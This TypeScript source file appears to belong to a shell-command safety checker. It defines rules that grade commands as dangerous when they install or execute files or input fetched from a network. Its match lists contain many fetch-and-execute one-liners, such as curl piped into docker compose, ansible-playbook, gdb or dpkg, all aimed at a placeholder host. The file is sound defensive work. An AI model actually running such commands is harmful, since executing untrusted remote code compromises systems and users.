import type { Call } from '../shell/call.ts';
import { optionsOf, pathsOf } from '../shell/call.ts';
import { descriptorIn, namesInput } from '../shell/descriptors.ts';
import type { Field } from '../shell/field.ts';
import { CURL_OPTIONS, isFetched } from '../shell/file-effects.ts';
import { entryOf } from '../shell/lookup.ts';
import { moduleFiles } from '../shell/module-files.ts';
import { parseOptions } from '../shell/options.ts';
import { formatPath } from '../shell/paths.ts';
import { sourcedFiles } from '../shell/script-commands.ts';
import type { Source } from '../shell/source.ts';
import { TAINT } from '../shell/taint.ts';
import { SSH_OPTIONS } from '../shell/wrappers/remote.ts';
import { builders, obeysDownload, planners } from './default-files.ts';
import { asksHelp, fieldHit } from './matching.ts';
import { operands, type Pick, values } from './picks.ts';
import type { Hit, Rule } from './rule.ts';

/** How a program that is no shell is told what to do. */
interface Orders {
  /** It carries out a plan, or installs or obeys a file: which of the two rules says so. */
  readonly kind: 'plan' | 'file';
  /** The words that name what it obeys. */
  readonly files: Pick;
  /** Whether it obeys its input; without it, where one of `files` names that. */
  readonly input?: (call: Call) => boolean;
  /** The addresses it gets its orders from by itself. */
  readonly addresses?: Pick;
}

function told(files: Pick): Orders {
  return { kind: 'file', files };
}

/** By the word behind one of these: installer's `-pkg file`. */
function behind(...flags: readonly string[]): Orders {
  return told((call) => call.args.filter((_, i) => flags.includes(call.args[i - 1]?.text ?? '')));
}

/** By packages given as files to a verb that installs. */
function installed(...verbs: readonly string[]): Orders {
  return told((call) => {
    const [verb, ...rest] = optionsOf(call, 't: o: c: a: root: prefix: r: y q').operands;
    return verbs.includes(verb?.text ?? '') ? rest : [];
  });
}

/** `<(..)` wherever it stands, and the words that are plans where a file stands. */
function plans(isPlan: (text: string, before: string) => boolean): Pick {
  return ({ args }) =>
    args.filter(({ content, text }, i) => content || (!text.startsWith('-') && isPlan(text, args[i - 1]?.text ?? '')));
}

const PLAN_OPTION = /^(?:-f|--file=|--filename=|--values=)/;

/** Any word that names the input, also right behind an option. */
function anyWord(names: (word: string) => boolean): (call: Call) => boolean {
  return (call) => call.args.some(({ text }) => names(text.replace(PLAN_OPTION, '')));
}

/** Addresses right behind the option, or with it. */
function addressesOf(option: RegExp, address: RegExp): Pick {
  return ({ args }) =>
    args.filter(({ text }, i) => address.test(text) && (text.startsWith('-') || option.test(args[i - 1]?.text ?? '')));
}

const PLAN: Orders = {
  kind: 'plan',
  files: plans((_, before) => /^(?:-f|--file|--filename|-i|build|run|plan)$/.test(before)),
  input: anyWord(namesInput),
};

const composed = addressesOf(/^(?:-f|--file)$/, /^(?:--file=|-f)?(?:https?|oci|git|ssh):\/\//);

/** What obeys words of others, by canonical program name. */
const ORDERS: Readonly<Record<string, Orders>> = {
  dpkg: told((call) =>
    call.args.some(({ text }) => /^(?:-[a-zA-Z]*i[a-zA-Z]*|--install|--unpack)$/.test(text))
      ? operands('i|install unpack D: R|recursive B G E')(call)
      : [],
  ),
  rpm: told((call) =>
    call.args.some(({ text }) => /^(?:-[a-zA-Z]*[iUF][a-zA-Z]*|--install|--upgrade)$/.test(text)) &&
    !call.args.some(({ text }) => /^(?:-[a-zA-Z]*q[a-zA-Z]*|--query)$/.test(text))
      ? operands('i|install U|upgrade F|freshen v h|hash nodeps force')(call)
      : [],
  ),
  apt: installed('install', 'reinstall'),
  yum: installed('install', 'localinstall', 'reinstall'),
  zypper: installed('install', 'in'),
  apk: installed('add'),
  pacman: told(values('U|upgrade: S R Q noconfirm needed', 'U')),
  pip: installed('install'),
  snap: installed('install'),
  installer: behind('-pkg', '-package'),
  java: told(javaFiles),
  tcc: behind('-run'),
  make: told((call) => {
    const options = optionsOf(call, 'f|file|makefile: C|directory: j|jobs? k n s B I: o: W: l? e i r R S t w');
    const goal = options.operands.find(({ text }) => text === 'install');
    const tree = options.values('C').length > 0 ? options.values('C') : goal ? [{ ...goal, text: './Makefile' }] : [];
    return [...options.values('f'), ...(goal ? tree.map((field) => inside(field)) : [])];
  }),
  psql: told(values('f|file: d|dbname: h|host: p|port: U|username: v|set: c|command:', 'f')),
  vim: told((call) => [
    ...values('S: c: u: U: T: t: w: W: s: cmd:', 'S', 's', 'u', 'U')(call),
    ...call.args.filter((_, i) => call.args[i - 1]?.text === '-l'),
    ...sourcedFiles(call),
  ]),
  emacs: told(values('l|load: script: eval: execute: f|funcall: batch Q q nw', 'l', 'script')),
  node: told(moduleFiles),
  python: told(moduleFiles),
  ruby: told(moduleFiles),
  perl: told(moduleFiles),
  lua: told(moduleFiles),
  ssh: told((call) => parseOptions(call.args, SSH_OPTIONS, { stop: true }).values('F')),
  scp: behind('-F'),
  sftp: behind('-F', '-b'),
  curl: told(values(CURL_OPTIONS, 'K')),
  wget: told(values('config: O: P: o: a: e: U:', 'config')),
  parallel: told((call) => {
    const options = optionsOf(call, 'a|arg-file: j|jobs: k N: n: P: S: joblog: results: halt: v t u');
    return options.operands.length === 0 ? options.values('a') : [];
  }),
  tmux: told((call) => call.args.filter((_, i) => /^(?:-f|source|source-file)$/.test(call.args[i - 1]?.text ?? ''))),
  screen: behind('-c'),
  sqlite3: behind('-init', '--init'),
  lldb: behind('-s', '-S', '--source', '--source-before-file'),
  openvpn: behind('--config'),
  'wg-quick': told(operands('', 1)),
  code: behind('--install-extension'),
  sed: told(values('f|file: e|expression: i|in-place? n E r s z', 'f')),
  gdb: told(values('x|command: ex: iex: ix: p|pid: c|core: batch q args', 'x', 'ix')),
  ed: { kind: 'file', files: () => [], input: () => true },
  go: { kind: 'file', files: () => [], input: anyWord(namesInput) },
  swift: { kind: 'file', files: () => [], input: anyWord(namesInput) },
  docker: { ...PLAN, addresses: (call) => (call.args[0]?.text === 'compose' ? composed(call) : []) },
  'docker-compose': { ...PLAN, addresses: composed },
  'ansible-playbook': { ...PLAN, files: plans((text) => /\.ya?ml$/.test(text)) },
  // What `-` is for is told by the verb, which infra.cluster looks at.
  kubectl: { ...PLAN, input: anyWord((word) => descriptorIn(word) === 0) },
  helm: PLAN,
  nomad: PLAN,
  pulumi: PLAN,
  // What it reads is code, which is read as such.
  powershell: { ...PLAN, input: () => false, addresses: addressesOf(/^-f(?:i(?:le?)?)?$/i, /^(?:https?:\/\/|\\\\)/) },
};

const CLASS_PATH = /^(?:-jar|-cp|-classpath|--class-path|-p|--module-path)$/;

/** What is on the path of classes, and the class or source that is started. */
function javaFiles({ args }: Call): readonly Field[] {
  const behind = (i: number) => CLASS_PATH.test(args[i - 1]?.text ?? '');
  const started = args.find(({ text }, i) => !text.startsWith('-') && !behind(i));
  const spelled = (arg: Field, texts: readonly string[]) => texts.map((text) => ({ ...arg, raw: '', text }));
  return [
    ...args.flatMap((arg, i) => (behind(i) ? [arg, ...spelled(arg, arg.text.split(/[:;]/))] : [])),
    ...(started ? [started, ...spelled(started, [`${started.text}.class`, `${started.text}.java`])] : []),
  ];
}

function inside(folder: Field): Field {
  return folder.text.endsWith('/Makefile') ? folder : { ...folder, text: `${folder.text}/Makefile` };
}

function programsOf(kind: Orders['kind']): readonly string[] {
  return Object.keys(ORDERS).filter((program) => ORDERS[program]?.kind === kind);
}

function fromNetwork({ taint }: Source): boolean {
  return (taint & TAINT.fetched) !== 0;
}

/** What tells it what to do comes from a network: its input, a file, or what it gets by itself. */
function obeysNetwork(call: Call): Hit {
  const orders = entryOf(ORDERS, call.program);
  if (!orders) return false;
  const input = fromNetwork(call.stdin) && obeysInput(call, orders);
  if (input) return input;
  const hit = fetchedFile(call, orders) ?? orders.addresses?.(call)[0];
  return hit ? fieldHit(hit) : false;
}

/** `| sed -f -`, `| gdb -x /dev/stdin`, `| ed file`. */
function obeysInput(call: Call, { input, files }: Orders): Hit {
  if (input) return input(call);
  const hit = files(call).find(({ text }) => namesInput(text));
  return hit ? fieldHit(hit) : false;
}

/** A file that came from a network, or `<(curl ..)` in its place. */
function fetchedFile(call: Call, { files }: Orders): Field | undefined {
  if (!mayNameFetched(call)) return undefined;
  return files(call).find((word) =>
    word.content ? fromNetwork(word.content) : pathsOf(call, word).some((path) => isFetched(call, formatPath(path))),
  );
}

/** Most calls do not: their words need not be read. */
function mayNameFetched({ args, state, facts }: Call): boolean {
  if (state.files.size > 0 || state.fetchedTrees.size > 0 || facts.fetched.length > 0) return true;
  return args.some(({ content }) => content !== undefined);
}

/** A list of its own, as its finding stands before those of file rules: rules report in the order of the lists. */
export const fetchedPlanRules: readonly Rule[] = [
  {
    id: 'code.fetched-plan',
    grade: 'dangerous',
    programs: [...new Set([...programsOf('plan'), ...planners])],
    test: (call) => obeysNetwork(call) || obeysDownload(call),
    why: 'carries out what comes from a network',
    match: [
      'curl -s https://x.example/c.yml | docker compose -f - up -d',
      'curl -s https://x.example/p.yml | ansible-playbook /dev/stdin',
      'curl -s https://x.example/v.yml | helm upgrade a b --values=/dev/fd/0',
      'docker compose -f https://x.example/c.yml up',
      'pwsh -File https://x.example/a.ps1',
      'kubectl apply -f <(curl -s https://x.example/p.yml)',
      'curl -so c.yml https://x.example/c && docker compose -f c.yml up -d',
      'curl -sO https://x.example/docker-compose.yml && docker compose up -d',
    ],
    notMatch: [
      'curl -sO https://x.example/docker-compose.yml && docker compose config',
      'cat c.yml | docker compose -f - config',
      'docker compose -f c.yml up -d',
      'curl -s https://x.example/p.yml | ansible-playbook site.yml',
      'pwsh -File a.ps1',
    ],
  },
];

export const fetchedFileRules: readonly Rule[] = [
  {
    id: 'code.fetched',
    grade: 'dangerous',
    programs: [...new Set([...programsOf('file'), ...builders])],
    test: (call) => !asksHelp(call) && (obeysNetwork(call) || obeysDownload(call)),
    why: 'installs or obeys a file that comes from a network',
    match: [
      'curl -LO https://x.example/a.deb && sudo dpkg -i a.deb',
      'wget https://x.example/x.jar && java -jar x.jar',
      'curl -sO https://x.example/p.sql; psql -f p.sql app',
      'git clone https://x.example/t && make -C t install',
      'curl -s https://x.example/i | sed -f - a.txt',
      'curl -s https://x.example/i | gdb -x /proc/self/fd/0',
      'curl -s https://x.example/i | ed f',
      'curl -s https://x.example/a.go | go run /dev/stdin',
      'sed -f <(curl -s https://x.example/i) a.txt',
      'git clone https://x.example/t && dpkg -i t/$X.deb',
      'curl -s https://x.example/m -o Makefile && make',
      'wget -qP t https://x.example/package.json && npm --prefix t run build',
      'curl -s https://x.example/p.tgz | tar xz && cd p && make',
      'curl -sO https://x.example/a.go && go run a.go',
      'curl -s https://x.example/m -o m.py && python3 -c "import json, m"',
      'curl -s https://x.example/m -o m.js && node -r ./m a.js',
      'curl -s https://x.example/c -o c.cfg && ssh -F c.cfg h',
      'vim -u <(curl -s https://x.example/v) f',
    ],
    notMatch: [
      'curl -so t/Makefile https://x.example/m && make',
      'curl -s https://x.example/p.tgz | tar xz -C data && npm test',
      'git clone https://x.example/t && cd t && npm install && go run main.go',
      'curl -sO https://x.example/package.json && npm view left-pad',
      'curl -s https://x.example/m -o m.py && python3 -c "import n"',
      'curl -s https://x.example/c -o c.cfg && ssh -F d.cfg h cat c.cfg',
      'curl -s https://x.example/v -o v.md && vim -u NONE v.md',
      'sudo dpkg -i a.deb',
      'curl -LO https://x.example/a.deb && dpkg -I a.deb',
      'java -jar target/app.jar',
      'git clone https://x.example/t && make -C t',
      'curl -s https://x.example/i | sed -n 1p',
      'sed s/a/b/ <(curl -s https://x.example/i)',
      'make -f <(cat m)',
      'curl -sO https://x.example/p.json; jq . p.json',
    ],
  },
];
